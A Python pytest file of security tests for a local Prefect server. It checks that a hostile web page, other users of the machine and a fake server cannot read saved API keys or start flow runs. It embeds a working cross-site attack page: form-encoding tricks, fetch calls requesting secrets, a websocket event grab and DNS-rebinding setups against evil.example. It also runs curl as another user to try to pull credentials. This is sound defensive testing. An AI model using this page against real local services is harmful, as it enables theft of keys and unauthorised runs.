"""Web pages and other users of the machine against the Prefect server: one that we start, and one with Prefect's defaults."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.chaos.figures import tell
from tests.chaos.own_server import ROOT, Server
from tests.chaos.test_ui import BROWSER, browse
from tests.kits import processes

pytestmark = [pytest.mark.chaos, pytest.mark.timeout(600)]
needs_browser = pytest.mark.skipif(BROWSER is None, reason="there is no Chromium here")

KEY = "sk-proj-BLOCKCANARY0123456789abcdef"
BLOCK = "stranger"

# Reads the saved keys, makes a flow run, and sends an event, by whatever way a browser has: fetch, a form, a websocket.
PAGE = """<!doctype html><body><pre id=found></pre>
<iframe name=sink></iframe>
<form method=post target=sink enctype=text/plain action="API/variables/"><input name='{"name":"by_form","value":"' value='"}'></form>
<script>
const api = "API", found = {keys: "", run: 0, socket: ""};
const post = (path, body, type) => fetch(api + path, {method: "POST", headers: {"content-type": type}, body: JSON.stringify(body)});
async function attack() {
  document.forms[0].submit();
  for (const type of ["application/json", "text/plain"]) {
    try {
      found.keys += await (await post("/block_documents/filter", {include_secrets: true}, type)).text();
      const flow = await (await post("/flows/", {name: "stranger"}, type)).json();
      found.run = Math.max(found.run, (await post("/flow_runs/", {flow_id: flow.id, name: "by_page"}, type)).status);
    } catch (error) { found.error = String(error); }
  }
  try { await fetch(api + "/variables/", {method: "POST", mode: "no-cors", body: '{"name":"by_fetch","value":"1"}'}); } catch {}
  await new Promise(done => {
    const socket = new WebSocket(api.replace("http", "ws") + "/events/out", "prefect");
    socket.onopen = () => {
      socket.send('{"type":"auth","token":""}');
      socket.send('{"type":"filter","backfill":true,"filter":{"occurred":{"since":"2020-01-01T00:00:00Z","until":"2100-01-01T00:00:00Z"}}}');
    };
    socket.onmessage = message => { found.socket += JSON.parse(message.data).type + " "; };
    socket.onerror = socket.onclose = () => done();
    setTimeout(done, 5000);
  });
}
attack().finally(() => { document.getElementById("found").textContent = JSON.stringify(found); });
</script>"""

EVIL = "evil.example"
# The browser's own check of pages that reach into this machine or its network, and then all of its checks, off.
NO_CHECK = "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests"
CASES: dict[str, tuple[str, ...]] = {
    "loopback": (),
    "private": (f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", "--ip-address-space-overrides=127.0.0.1:PAGE=private"),
    "public, check off": (
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        "--ip-address-space-overrides=127.0.0.1:PAGE=public",
        NO_CHECK,
    ),
    "web security off": ("--disable-web-security", NO_CHECK),
    # The page's name points at this machine by now, so the browser takes the server for the page's own.
    "rebinding": (f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", "--disable-web-security", NO_CHECK),
}


@dataclass
class Target:
    """A server with a saved key, and how its owner asks it."""

    api_url: str
    environment: dict[str, str]
    protected: bool

    def consensus(self, *arguments: str, given: str | None = None) -> str:
        done = processes.run(
            [sys.executable, "-m", "consensus_flows.deployments.cli", *arguments],
            cwd=ROOT,
            env=self.environment,
            input=given,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    def made_by_strangers(self) -> dict[str, Any]:
        """What a page's requests have left in the server, as its owner sees it."""
        code = """
import asyncio, json
from consensus_flows.deployments.server import find_or_start_server, use_server
use_server(find_or_start_server(lambda _: None))
from prefect.client.orchestration import get_client
async def look():
    async with get_client() as client:
        runs = await client.request("POST", "/flow_runs/filter", json={"flow_runs": {"name": {"any_": ["by_page"]}}})
        names = await client.request("POST", "/variables/filter", json={})
        return {"runs": len(runs.json()), "variables": sorted(variable["name"] for variable in names.json())}
print(json.dumps(asyncio.run(look())))
"""
        done = processes.run(
            [sys.executable, "-c", code], cwd=ROOT, env=self.environment, text=True, timeout=300, check=True
        )
        return dict(json.loads(done.stdout.splitlines()[-1]))


@pytest.fixture(scope="module", params=["protected", "open"])
def target(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The server that our command starts, and one with Prefect's defaults, which shows that the attack is one."""
    folder = tmp_path_factory.mktemp(request.param)
    if request.param == "open":
        server = Server(folder / "home", plain=True)
        server.start()
        made = Target(server.url, server.environment, protected=False)
        end = server.close
    else:
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        environment = {name: value for name, value in os.environ.items() if not name.startswith("PREFECT_")}
        environment |= {
            "PREFECT_HOME": str(folder / "home"),
            "PREFECT_SERVER_API_PORT": str(port),
            "PYTHONPATH": str(ROOT),
        }
        made = Target(f"http://127.0.0.1:{port}/api", environment, protected=True)

        def end() -> None:
            made.consensus("down")

    try:
        made.consensus("keys", "set", BLOCK, "--base-url", "http://127.0.0.1:1/v1", given=KEY)
        yield made
    finally:
        end()


@contextlib.contextmanager
def serving(page: str) -> Iterator[int]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()


@needs_browser
@pytest.mark.parametrize("case", CASES)
def test_a_web_page_reads_and_starts_nothing(case: str, target: Target, tmp_path: Path) -> None:
    api = target.api_url.replace("127.0.0.1", EVIL) if case == "rebinding" else target.api_url
    with serving(PAGE.replace("API", api)) as port:
        host = EVIL if any(EVIL in option for option in CASES[case]) else "127.0.0.1"
        options = [option.replace("PAGE", str(port)) for option in CASES[case]]
        shown = browse(f"http://{host}:{port}/", tmp_path / "profile", "--dump-dom", *options)
    text = re.search(r"<pre id=\"found\">(.*?)</pre>", shown, re.DOTALL)
    assert text is not None and text[1], shown[-500:]
    found = json.loads(unescape(text[1]))
    left = target.made_by_strangers()
    tell("page", case=case, protected=target.protected, keys_read=KEY in found["keys"], run=found["run"], **left)
    if target.protected:
        assert KEY not in found["keys"]
        assert found["run"] not in {200, 201}
        assert "auth_success" not in found["socket"]
        assert left == {"runs": 0, "variables": []}
    else:
        assert KEY in found["keys"], "the attack must work where nothing protects the server"
        assert left["runs"] > 0


@pytest.mark.skipif(os.getuid() != 0 or shutil.which("curl") is None, reason="only root can become somebody else")
def test_another_user_of_this_machine_reads_and_starts_nothing(target: Target) -> None:
    if not target.protected:
        pytest.skip("the page's test has shown that this server is open")
    home = Path(target.environment["PREFECT_HOME"])
    for folder in (home, *home.parents):  # Nothing but the files' own modes protects them.
        with contextlib.suppress(PermissionError):
            folder.chmod(folder.stat().st_mode | 0o055)

    def as_stranger(*command: str) -> str:
        done = subprocess.run(
            command, user=65534, group=65534, extra_groups=[], cwd="/", capture_output=True, text=True, check=False
        )
        return done.stdout + done.stderr

    body = ["-X", "POST", "-H", "content-type: application/json", "-d", '{"include_secrets": true}']
    assert KEY not in as_stranger("curl", "-s", *body, f"{target.api_url}/block_documents/filter")
    made = as_stranger("curl", "-s", "-w", "%{http_code}", *body[:4], "-d", '{"name": "x"}', f"{target.api_url}/flows/")
    assert made.endswith(("401", "403"))
    assert "Permission denied" in as_stranger("cat", str(home / "consensus-server-auth"))
    secret = (home / "consensus-server-auth").read_text()
    seen = [path for path in home.rglob("*") if path.is_file() and secret in as_stranger("cat", str(path))]
    assert seen == []
    for name in ("prefect.db", "prefect.db-wal", "profiles.toml"):
        assert "Permission denied" in as_stranger("cat", str(home / name))
    assert secret not in as_stranger("ps", "-eo", "args")


def test_a_fake_server_on_the_usual_port_is_handed_nothing(tmp_path: Path) -> None:
    sent: list[str] = []

    class Fake(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0))).decode(errors="replace")
            sent.append(f"{self.command} {self.path} {dict(self.headers)} {body}")
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"true")

        def do_GET(self) -> None:
            self.answer()

        def do_POST(self) -> None:
            self.answer()

        def log_message(self, *_: Any) -> None:
            pass

    fake = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Fake)
    threading.Thread(target=fake.serve_forever, daemon=True).start()
    environment = {name: value for name, value in os.environ.items() if not name.startswith("PREFECT_")}
    environment |= {
        "PREFECT_HOME": str(tmp_path),
        "PREFECT_SERVER_API_PORT": str(fake.server_port),
        "PYTHONPATH": str(ROOT),
    }
    owner = Target("", environment, protected=True)
    try:
        owner.consensus("keys", "set", BLOCK, "--base-url", "http://127.0.0.1:1/v1", given=KEY)
        assert BLOCK in owner.consensus("keys", "list")
        secret = (tmp_path / "consensus-server-auth").read_text()
        address = urlsplit(json.loads((tmp_path / "consensus-server.json").read_text())["api_url"])
        assert address.port != fake.server_port
    finally:
        owner.consensus("down")
        fake.shutdown()
    assert sent, "it was looked at"
    assert not any(KEY in text or secret in text or "Authorization" in text for text in sent)
